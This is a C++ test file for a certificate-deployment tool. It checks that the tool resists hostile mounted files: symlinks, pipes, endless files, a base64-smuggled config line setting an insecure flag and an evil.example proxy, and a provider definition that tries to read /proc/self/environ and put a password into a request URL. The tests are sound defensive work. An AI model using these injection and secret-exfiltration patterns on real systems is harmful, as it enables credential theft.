// What others may put into the folders that are mounted: links, pipes, devices, files without end, definitions that reach
// for more than their own.
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <filesystem>
#include <fstream>

#include "support/free_address.h"
#include "support/temp_directory.h"
#include "support/test_ca.h"
#include "watched_run.h"

namespace sidecert::testing {
namespace {

namespace fs = std::filesystem;
using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;

class HostileFiles : public ::testing::Test {
 protected:
  HostileFiles() {
    for (const char* name : {"data", "certs", "elsewhere"}) fs::create_directory(files_ / name);
    std::ofstream(files_ / "certs" / "all.pem") << made_.key_pem << made_.fullChain();
    std::ofstream(files_ / "elsewhere" / "victim") << "precious";
  }
  void pipe(const fs::path& at) const { ASSERT_EQ(::mkfifo(at.c_str(), 0600), 0); }
  static void huge(const fs::path& at) {
    std::ofstream(at) << "-----BEGIN CERTIFICATE-----\n";
    fs::resize_file(at, 1ULL << 40U);
  }
  [[nodiscard]] std::string victim() const {
    std::ifstream in(files_ / "elsewhere" / "victim");
    return {std::istreambuf_iterator<char>(in), {}};
  }
  [[nodiscard]] WatchedRun run(const std::vector<std::string>& arguments) { return runWatched(arguments, environment_); }

  TempDirectory files_;
  TestCertificate made_ = TestCa().intermediate().issue({.names = {"home.example"}});
  std::map<std::string, std::string> environment_{{"SIDECERT_DATA", (files_ / "data").string()},
                                                  {"DEPLOY_FROM", (files_ / "certs").string()},
                                                  {"SYNO_HOSTNAME", "127.0.0.1"},
                                                  {"SYNO_PORT", std::to_string(freePort())},
                                                  {"SYNO_USERNAME", "admin"},
                                                  {"SYNO_PASSWORD", "canary-password"},
                                                  {"SYNO_CERTIFICATE", "home"}};
};

TEST_F(HostileFiles, LinksInTheDataFolderLeadNowhere) {
  const fs::path data = files_ / "data";
  for (const char* name :
       {".write-test", "lock.new", "ledger.json.new", "status.json.new", "messages.json.new", "certificates"})
    fs::create_symlink(files_ / "elsewhere" / "victim", data / name);
  expectClearEnd(run({"renew"}));
  EXPECT_EQ(victim(), "precious");
  fs::remove(data / "certificates");
  fs::remove(data / "lock");
  fs::create_symlink(files_ / "elsewhere" / "made", data / "lock");
  expectClearEnd(run({"renew"}));
  EXPECT_FALSE(fs::exists(files_ / "elsewhere" / "made"));
  fs::remove(data / "lock");
  EXPECT_THAT(run({"renew"}).output, HasSubstr("taken from"));
  EXPECT_EQ(victim(), "precious");
}

TEST_F(HostileFiles, WhatIsNoFileInDeployFromIsNamedAndTheRestTaken) {
  pipe(files_ / "certs" / "a.pem");
  huge(files_ / "certs" / "b.pem");
  fs::create_symlink("/dev/zero", files_ / "certs" / "c.pem");
  const WatchedRun taken = run({"renew"});
  expectClearEnd(taken);  // no NAS answers
  EXPECT_THAT(taken.output, HasSubstr("taken from"));
  EXPECT_THAT(taken.output,
              AllOf(HasSubstr("a.pem"), HasSubstr("b.pem"), HasSubstr("c.pem"), HasSubstr("it is passed over")));
}

TEST_F(HostileFiles, ALedgerThatIsAPipeOrEndlessIsAnError) {
  ASSERT_THAT(run({"renew"}).output, HasSubstr("taken from"));
  const fs::path ledger = files_ / "data" / "ledger.json";
  for (const bool is_pipe : {true, false}) {
    fs::remove(ledger);
    is_pipe ? pipe(ledger) : huge(ledger);
    const WatchedRun ended = run({"renew"});
    expectClearEnd(ended);
    EXPECT_THAT(ended.output, HasSubstr("ledger.json"));
  }
}

TEST_F(HostileFiles, AVariableThatNamesNoFileIsAnError) {
  pipe(files_ / "secret");
  environment_.erase("DEPLOY_FROM");
  environment_.erase("SYNO_PASSWORD");
  environment_.insert(
      {{"SYNO_USERNAME", "admin"}, {"ACME_DOMAINS", "home.example"}, {"ACME_DNS", "dns_cf"}, {"CF_Token", "x"}});
  for (const std::string& path : {(files_ / "secret").string(), std::string("/dev/zero"), files_.path().string()}) {
    environment_["SYNO_PASSWORD_FILE"] = path;
    const WatchedRun ended = run({"renew"});
    expectClearEnd(ended);
    EXPECT_THAT(ended.output, AllOf(HasSubstr("SYNO_PASSWORD_FILE"), HasSubstr(path)));
  }
}

TEST_F(HostileFiles, DeployingAPipeIsAnError) {
  pipe(files_ / "key.pem");
  const std::string cert = (files_ / "certs" / "all.pem").string();
  const WatchedRun ended = run({"deploy", "--cert", cert, "--key", (files_ / "key.pem").string(), "--chain", cert});
  expectClearEnd(ended);
  EXPECT_THAT(ended.output, HasSubstr("key.pem: it is a pipe"));
}

TEST_F(HostileFiles, AnImportedHomeForgesNoVariable) {
  fs::create_directories(files_ / "home" / "home.example_ecc");
  std::ofstream(files_ / "home" / "account.conf") << "ACCOUNT_EMAIL='me@home.example'\n";
  // "x\nSYNO_INSECURE=1\nHTTPS_PROXY=http://evil.example" in base64
  std::ofstream(files_ / "home" / "home.example_ecc" / "home.example.conf")
      << "Le_Domain='home.example'\nLe_Webroot='dns_cf'\nSAVED_CF_Account_ID='__ACME_BASE64__START_"
         "eApTWU5PX0lOU0VDVVJFPTEKSFRUUFNfUFJPWFk9aHR0cDovL2V2aWwuZXhhbXBsZQ==__ACME_BASE64__END_'\n";
  pipe(files_ / "home" / "home.example_ecc" / "home.example.key");
  const WatchedRun ended = run({"import", (files_ / "home").string(), "--dry-run"});
  EXPECT_EQ(ended.code, 0) << ended.output;
  EXPECT_THAT(ended.output,
              AllOf(Not(HasSubstr("SYNO_INSECURE")), Not(HasSubstr("evil.example")), HasSubstr("control characters"),
                    HasSubstr("it is passed over"), HasSubstr("ACME_DOMAINS=home.example")));
}

TEST_F(HostileFiles, AMountedDefinitionGetsNoSecretOfOthers) {
  fs::create_directory(files_ / "providers");
  environment_["SIDECERT_PROVIDERS"] = (files_ / "providers").string();
  std::ofstream(files_ / "providers" / "evil.json") << R"({"id": "dns_evil", "name": "E", "docs": "d",
    "variables": [{"name": "SYNO_PASSWORD", "meaning": "m", "secret": true},
                  {"name": "EVIL_File", "meaning": "m", "file": true, "default": "/proc/self/environ"}],
    "credentials": [{"needs": ["SYNO_PASSWORD"]}], "base": "http://127.0.0.1:9", "zone": {"given": "{cut}"},
    "records": {"add": {"post": "/{SYNO_PASSWORD}/{fqdn}/{value}"}, "remove": {"delete": "/{fqdn}/{value}"}}})";
  pipe(files_ / "providers" / "pipe.json");
  environment_["ACME_DOMAINS"] = "home.example";
  environment_["ACME_DNS"] = "dns_evil";
  environment_.erase("DEPLOY_FROM");
  const WatchedRun ended = run({"txt", "add", "_acme-challenge.home.example", "value"});
  expectClearEnd(ended);
  EXPECT_THAT(ended.output, AllOf(HasSubstr("SYNO_PASSWORD belongs to Sidecert"), HasSubstr("a file has no default"),
                                  HasSubstr("pipe.json")));
}

}  // namespace
}  // namespace sidecert::testing
